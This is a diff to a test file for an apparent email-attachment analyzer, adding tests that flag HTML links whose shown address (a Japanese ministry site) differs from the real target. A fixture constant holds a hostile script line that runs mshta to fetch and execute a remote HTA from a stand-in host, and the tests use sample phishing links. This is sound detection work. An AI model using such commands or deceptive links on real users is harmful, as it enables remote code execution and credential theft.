@@ -1,11 +1,13 @@
 import { describe, expect, it } from 'vitest';
 import { readFileFacts } from '../../../../core/mail/attachment/file-facts.ts';
+import { analyzeMail } from '../../../../core/mail/analyze-mail.ts';
 import { detectType } from '../../../../core/mail/file-type.ts';
 import { MailBudget } from '../../../../core/mail/mail-budget.ts';
 import type { FileFact } from '../../../../core/model/mail-details.ts';
 import { ascii, asciiz, classId, hex, join, u16, u32 } from './byte-builder.ts';
 import { detailsOf, documentFacts } from './facts.ts';
 import { program } from './program/program-builder.ts';
+import { withAttachment } from '../mail-builder.ts';
 import { processorMs } from '../../../processor-time.ts';
 
 const SCRIPT = 'var s=new ActiveXObject("WScript.Shell");s.Run("mshta http://evil.example/a.hta");';
@@ -51,6 +53,43 @@ describe('a script, a page or a shortcut by its name', () => {
   it('is read at its end when padding stands in front; that it was not read whole is told', async () => {
     const facts = await factsOf(`<html><!--${'x'.repeat(8_500_000)}-->${PAGE}`, 'a.html');
     expect(kinds(facts)).toEqual(expect.arrayContaining(['html-smuggling', 'reading-cut']));
+  });
+});
+
+describe('a link of an attached page', () => {
+  const mismatches = async (link: string): Promise<string[]> =>
+    detailsOf(await factsOf(`<html><p>Please log in.</p>${link}`, 'a.html'), 'html-link-mismatch');
+
+  it.each([
+    ['<a href="https://evil.example.net/x">https://www.mofa.go.jp/login</a>', 'https://evil.example.net/x'],
+    ['<a href=//evil.example.net>www.mofa.go.jp</a>', '//evil.example.net'],
+    ['<a href="https://t.example.com/?u=https%3A%2F%2Fevil.example.net">mofa.go.jp</a>', 'https://evil.example.net'],
+  ])('that shows another address is told: %s', async (link, real) => {
+    const [told = ''] = await mismatches(link);
+    expect(told).toContain('mofa.go.jp');
+    expect(told.endsWith(`→ ${real}`)).toBe(true);
+  });
+
+  it.each([
+    '<a href="https://evil.example.net/x">ログイン</a>',
+    '<a href="https://www.mofa.go.jp/mofaj/">https://www.mofa.go.jp/</a>',
+    '<a href="https://login.mofa.go.jp/">mofa.go.jp</a>',
+    '<a href="https://clicks.us1.list-manage.com/track/1">https://www.company.example/</a>',
+    '<a href="#top">www.mofa.go.jp</a>',
+    '<a href="https://evil.example.net/r.pdf">report.pdf</a>',
+  ])('that does not is none: %s', async (link) => expect(await mismatches(link)).toEqual([]));
+
+  it('gives no address that it only shows, and speaks for the sign of links', async () => {
+    const page = '<html><a href="https://evil.example.net/x">https://www.mofa.go.jp/login</a>';
+    const mail = await analyzeMail(withAttachment('a.html', ascii(page)));
+    const sign = mail.signs.find(({ id }) => id === 'body.link-mismatch');
+    expect(sign).toMatchObject({
+      weight: 2,
+      evidence: 'a.html : html-link-mismatch https://www.mofa.go.jp/login → https://evil.example.net/x',
+    });
+    const told = mail.indicators.filter(({ where }) => where.includes('html-link-mismatch'));
+    expect(told).toEqual([]);
+    expect(mail.indicators.map(({ value }) => value)).toContain('https://evil.example.net/x');
   });
 });
 
